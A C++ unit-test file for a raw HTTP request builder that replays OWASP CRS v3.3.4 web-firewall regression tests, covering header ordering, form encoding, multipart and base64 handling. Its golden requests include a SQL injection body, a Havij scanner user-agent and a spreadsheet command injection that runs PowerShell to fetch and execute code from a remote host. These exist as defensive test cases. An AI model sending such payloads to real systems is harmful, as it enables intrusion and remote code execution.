// The go-ftw raw-request builder (tests/crs/ftw_request.h): each rule on inline inputs, then
// golden bytes for representative real CRS v3.3.4 tests (skipped without ../shared).

#include "crs/ftw_request.h"

#include <gtest/gtest.h>

#include <filesystem>
#include <string>

#include "crs/ftw_test.h"

namespace rampart::crs {
namespace {

std::string Build(const FtwInput& in, const BuildOptions& options = {}) {
  auto bytes = BuildRequest(in, options);
  EXPECT_TRUE(bytes.ok()) << (bytes.ok() ? "" : bytes.error().message);
  return bytes.ok() ? bytes.value() : "";
}

TEST(FtwRequestTest, DefaultsAndAutocompleteOnAGet) {
  FtwInput in;
  in.headers = {{"User-Agent", "t"}, {"Host", "localhost"}};
  // Sorted by name as go-ftw writes its header map; Connection: close added; no length on GET.
  EXPECT_EQ(Build(in),
            "GET / HTTP/1.1\r\nHost: localhost\r\nUser-Agent: t\r\nConnection: close\r\n\r\n");
  BuildOptions as_written;
  as_written.header_order = HeaderOrder::kAsWritten;
  EXPECT_EQ(Build(in, as_written),
            "GET / HTTP/1.1\r\nUser-Agent: t\r\nHost: localhost\r\nConnection: close\r\n\r\n");
}

TEST(FtwRequestTest, RequestLineIsSentAsWritten) {
  FtwInput in;
  in.method = "\tGET";
  in.uri = "/a b";
  in.version = "";
  in.stop_magic = true;
  EXPECT_EQ(Build(in), "\tGET /a b \r\n\r\n");
}

TEST(FtwRequestTest, FormBodyGetsTypeEncodingAndLength) {
  FtwInput in;
  in.method = "POST";
  in.data = "a=1 2&b=x=y&c&&d=";
  EXPECT_EQ(Build(in),
            "POST / HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
            "Connection: close\r\nContent-Length: 19\r\n\r\na=1+2&b=x%3Dy&c&&d=");
}

TEST(FtwRequestTest, EscapedOrNonFormBodiesAreKept) {
  FtwInput in;
  in.method = "POST";
  in.data = "a=1%20 2";  // '%' present: go-ftw thinks it is escaped
  EXPECT_NE(Build(in).find("\r\n\r\na=1%20 2"), std::string::npos);
  in.data = "a=1+2 3";  // '+' likewise
  EXPECT_NE(Build(in).find("\r\n\r\na=1+2 3"), std::string::npos);
  in.data = "{\"a\": 1}";
  in.headers = {{"content-type", "application/json"}};  // matched case-insensitively
  EXPECT_EQ(Build(in),
            "POST / HTTP/1.1\r\ncontent-type: application/json\r\nConnection: close\r\n"
            "Content-Length: 8\r\n\r\n{\"a\": 1}");
  in.headers = {{"Content-Type", "Application/X-WWW-Form-Urlencoded"}};
  in.data = "q=a b";
  EXPECT_NE(Build(in).find("\r\n\r\nq=a+b"), std::string::npos);
}

TEST(FtwRequestTest, ExistingConnectionAndLengthAreKept) {
  FtwInput in;
  in.method = "POST";
  in.headers = {{"connection", "keep-alive"}, {"Content-Length", "99"}};
  in.data = "x";
  EXPECT_EQ(Build(in),
            "POST / HTTP/1.1\r\nContent-Length: 99\r\nconnection: keep-alive\r\n"
            "Content-Type: application/x-www-form-urlencoded\r\n\r\nx");
}

TEST(FtwRequestTest, MethodsThatGetALengthWithoutBody) {
  for (const char* m : {"POST", "PUT", "PATCH", "DELETE", "POSTX", "XPUTX", "UNDELETE"}) {
    FtwInput in;
    in.method = m;
    EXPECT_NE(Build(in).find("Content-Length: 0\r\n"), std::string::npos) << m;
  }
  for (const char* m : {"GET", "OPTIONS", "DELETEX", "XPOST"}) {
    FtwInput in;
    in.method = m;
    EXPECT_EQ(Build(in).find("Content-Length"), std::string::npos) << m;
  }
}

TEST(FtwRequestTest, AutocompleteOffAddsNothing) {
  FtwInput in;
  in.method = "POST";
  in.data = "a=b c";
  in.stop_magic = true;
  EXPECT_EQ(Build(in), "POST / HTTP/1.1\r\n\r\na=b c");
  in.stop_magic.reset();
  in.autocomplete_headers = false;
  EXPECT_EQ(Build(in), "POST / HTTP/1.1\r\n\r\na=b c");
}

TEST(FtwRequestTest, MultipartLineEnds) {
  FtwInput in;
  in.method = "POST";
  in.headers = {{"Content-Type", "multipart/form-data; boundary=x"}};
  in.data = "--x\nA\r\nB\n--x--";
  in.stop_magic = true;  // applies without autocompletion too
  EXPECT_EQ(Build(in),
            "POST / HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=x\r\n\r\n"
            "--x\r\nA\r\nB\r\n--x--");
  BuildOptions blind;
  blind.multipart = MultipartLineEnds::kEveryLfToCrlf;
  EXPECT_NE(Build(in, blind).find("--x\r\nA\r\r\nB\r\n--x--"), std::string::npos);
  in.headers = {{"Content-Type", "multipart/form-data"}};  // no ';': untouched (go-ftw)
  EXPECT_NE(Build(in).find("--x\nA\r\nB\n--x--"), std::string::npos);
}

TEST(FtwRequestTest, EncodedAndRawRequestsAreVerbatim) {
  FtwInput in;
  in.encoded_request = "R0VUIC8gSFRUUC8xLjANCg0K";
  in.raw_request = "ignored";
  in.headers = {{"Host", "ignored"}};
  EXPECT_EQ(Build(in), "GET / HTTP/1.0\r\n\r\n");
  BuildOptions tag;
  tag.extra_headers = {{"X-Request-Id", "r1"}};
  EXPECT_EQ(Build(in, tag), "GET / HTTP/1.0\r\n\r\n");
  tag.tag_raw_requests = true;
  EXPECT_EQ(Build(in, tag), "GET / HTTP/1.0\r\nX-Request-Id: r1\r\n\r\n");
  in.encoded_request.reset();
  in.raw_request = "GET /\n\n";
  EXPECT_EQ(Build(in), "GET /\n\n");
  in.encoded_request = "R0VUI!==";
  EXPECT_FALSE(BuildRequest(in).ok());
}

TEST(FtwRequestTest, ExtraHeadersGoLast) {
  FtwInput in;
  in.headers = {{"Host", "h"}};
  BuildOptions tag;
  tag.extra_headers = {{"X-Request-Id", "r1"}, {"Connection", "keep-alive"}};
  EXPECT_EQ(Build(in, tag),
            "GET / HTTP/1.1\r\nHost: h\r\nConnection: close\r\nX-Request-Id: r1\r\n"
            "Connection: keep-alive\r\n\r\n");
}

TEST(FtwRequestTest, GoHelpers) {
  EXPECT_EQ(GoQueryEscape("aZ09-_.~ !*'();:@&=+$,/?#[]\xff"),
            "aZ09-_.~+%21%2A%27%28%29%3B%3A%40%26%3D%2B%24%2C%2F%3F%23%5B%5D%FF");
  EXPECT_EQ(EncodeFormData("hello=world"), "hello=world");
  EXPECT_EQ(EncodeFormData("foo bar"), "foo+bar");
  EXPECT_EQ(EncodeFormData("foo+bar"), "foo+bar");
  EXPECT_EQ(EncodeFormData("a=1&"), "a=1");
  EXPECT_EQ(EncodeFormData("&a"), "&a");
  EXPECT_EQ(EncodeFormData("c4= ;c3=t"), "c4=+%3Bc3%3Dt");
  EXPECT_EQ(DecodeBase64("").value(), "");
  EXPECT_EQ(DecodeBase64("YQ==").value(), "a");
  EXPECT_EQ(DecodeBase64("YWI=").value(), "ab");
  EXPECT_EQ(DecodeBase64("YWJj").value(), "abc");
  EXPECT_FALSE(DecodeBase64("YQ=").ok());
  EXPECT_FALSE(DecodeBase64("Y===").ok());
  EXPECT_FALSE(DecodeBase64("YQ=a").ok());
  EXPECT_EQ(BuildMarkerRequest("m-1"),
            "GET / HTTP/1.1\r\nHost: localhost\r\nX-CRS-Test: m-1\r\nConnection: close\r\n\r\n");
}

// ---- Golden bytes for real tests of ../shared/crs-regression (CRS v3.3.4) ----

const std::string kCorpus = std::string(RAMPART_SOURCE_DIR) + "/../shared/crs-regression";

#define REQUIRE_CORPUS()                                          \
  if (!std::filesystem::is_directory(kCorpus))                    \
  GTEST_SKIP() << "CRS regression tests not found at " << kCorpus \
               << " (the shared CRS v3.3.4 test corpus; the project builds without it)"

// The built request of test `title` in `file` (relative to the corpus).
std::string RealRequest(const std::string& file, const std::string& title) {
  auto parsed = ParseFtwFile(kCorpus + "/" + file);
  EXPECT_TRUE(parsed.ok()) << (parsed.ok() ? "" : parsed.error().message);
  if (!parsed.ok()) return "";
  for (const auto& test : parsed->tests) {
    if (test.title == title) return Build(test.stages.at(0).input);
  }
  ADD_FAILURE() << title << " not in " << file;
  return "";
}

TEST(FtwRequestGoldenTest, GetWithHeaders913100_1) {
  REQUIRE_CORPUS();
  EXPECT_EQ(RealRequest("REQUEST-913-SCANNER-DETECTION/913100.yaml", "913100-1"),
            "GET / HTTP/1.0\r\n"
            "Accept: text/xml,application/xml,application/xhtml+xml,text/html;q=0.9,"
            "text/plain;q=0.8,image/png,*/*;q=0.5\r\n"
            "Accept-Charset: ISO-8859-1,utf-8;q=0.7,*;q=0.7\r\n"
            "Accept-Encoding: gzip,deflate\r\n"
            "Accept-Language: en-us,en;q=0.5\r\n"
            "Host: localhost\r\n"
            "Keep-Alive: 300\r\n"
            "Proxy-Connection: keep-alive\r\n"
            "User-Agent: Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; SV1; .NET CLR "
            "2.0.50727) Havij\r\n"
            "Connection: close\r\n"
            "\r\n");
}

TEST(FtwRequestGoldenTest, Http10FormPost942100_1) {
  REQUIRE_CORPUS();
  EXPECT_EQ(RealRequest("REQUEST-942-APPLICATION-ATTACK-SQLI/942100.yaml", "942100-1"),
            "POST / HTTP/1.0\r\n"
            "Host: localhost\r\n"
            "Content-Type: application/x-www-form-urlencoded\r\n"
            "Connection: close\r\n"
            "Content-Length: 17\r\n"
            "\r\n"
            "var=1234+OR+1%3D1");
}

TEST(FtwRequestGoldenTest, MultipartDataList920120_1) {
  REQUIRE_CORPUS();
  EXPECT_EQ(RealRequest("REQUEST-920-PROTOCOL-ENFORCEMENT/920120.yaml", "920120-1"),
            "POST / HTTP/1.1\r\n"
            "Accept: */*\r\n"
            "Accept-Language: en\r\n"
            "Connection: close\r\n"
            "Content-Type: multipart/form-data; boundary=--------397236876\r\n"
            "Host: localhost\r\n"
            "Referer: http://localhost/\r\n"
            "User-Agent: ModSecurity CRS 3 Tests\r\n"
            "Content-Length: 166\r\n"
            "\r\n"
            "----------397236876\r\n"
            "Content-Disposition: form-data; name=\"fileRap\"; filename=\"file=.txt\"\r\n"
            "Content-Type: text/plain\r\n"
            "\r\n"
            "555-555-0199@example.com\r\n"
            "----------397236876--");
}

TEST(FtwRequestGoldenTest, AutocompleteOffChunkedList920181_1) {
  REQUIRE_CORPUS();
  EXPECT_EQ(RealRequest("REQUEST-920-PROTOCOL-ENFORCEMENT/920181.yaml", "920181-1"),
            "POST / HTTP/1.1\r\n"
            "Accept: */*\r\n"
            "Content-Length: 7\r\n"
            "Content-Type: application/x-www-form-urlencoded\r\n"
            "Host: localhost\r\n"
            "Transfer-Encoding: chunked\r\n"
            "User-Agent: ModSecurity CRS 3 Tests\r\n"
            "\r\n"
            "7\r\nfoo=bar\r\n0\r\n\r\n");
}

TEST(FtwRequestGoldenTest, EncodedRequest932100_3) {
  REQUIRE_CORPUS();
  EXPECT_EQ(RealRequest("REQUEST-932-APPLICATION-ATTACK-RCE/932100.yaml", "932100-3"),
            "POST /index.html HTTP/1.1\n"
            "Host: 192.168.1.23\n"
            "User-Agent: curl/7.43.0\n"
            "Accept: */*\n"
            "Content-Length: 64\n"
            "Content-Type: application/x-www-form-urlencoded\n"
            "Connection: close\n"
            "\n"
            "d=1;2;3;4;5\\n1;@SUM(1+1)*cmd|' powershell IEX(wget 0r.pe/p)'\\!A0;3");
}

TEST(FtwRequestGoldenTest, RawRequestUtf8Escapes944200_0FP) {
  REQUIRE_CORPUS();
  const std::string raw =
      RealRequest("REQUEST-944-APPLICATION-ATTACK-JAVA/944200.yaml", "944200-0FP");
  // "\xac\xed\x00\x05" in a YAML double-quoted string: code points, sent as UTF-8 (go-ftw).
  constexpr char kTail[] = "Content-Length: 9\r\n\r\ntest=\xc2\xac\xc3\xad\0\x05\r\n\r\n";
  ASSERT_GE(raw.size(), sizeof(kTail) - 1);
  EXPECT_EQ(raw.substr(raw.size() - (sizeof(kTail) - 1)), std::string(kTail, sizeof(kTail) - 1));
  EXPECT_TRUE(raw.starts_with("POST / HTTP/1.0\r\nHost: localhost\r\n"));
}

}  // namespace
}  // namespace rampart::crs
